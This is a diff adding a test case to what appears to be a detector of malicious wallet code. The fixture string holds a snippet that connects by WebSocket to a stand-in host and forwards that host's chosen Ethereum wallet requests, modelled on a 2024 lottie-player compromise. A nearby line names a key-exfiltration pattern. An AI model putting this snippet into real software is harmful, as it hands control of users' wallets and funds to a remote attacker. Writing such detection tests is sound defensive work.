@@ -62,6 +62,15 @@ describe('wallets', () => {
     assert.deepEqual(sign(`JSON.stringify({ primaryType: 'Login', message: { nonce: d } })`), []);
   });
 
+  it('are asked for what a host wants (lottie-player, 2024)', () => {
+    const answer = (method: string) =>
+      behavioursOf(
+        `const ws = new WebSocket('wss://c.invalid/s'); ws.onmessage = async (e) => { const order = JSON.parse(e.data); ws.send(JSON.stringify(await window.ethereum.request({ method: ${method}, params: order.p }))); };`,
+      );
+    assert.deepEqual(answer('order.m'), ['wallet-obeys-host import']);
+    assert.deepEqual(answer(`'eth_sendTransaction'`), []);
+  });
+
   it('have keys, by whatever name they are given and made', () => {
     const sent = 'key-material>network@collect.invalid';
     const send = (code: string) =>
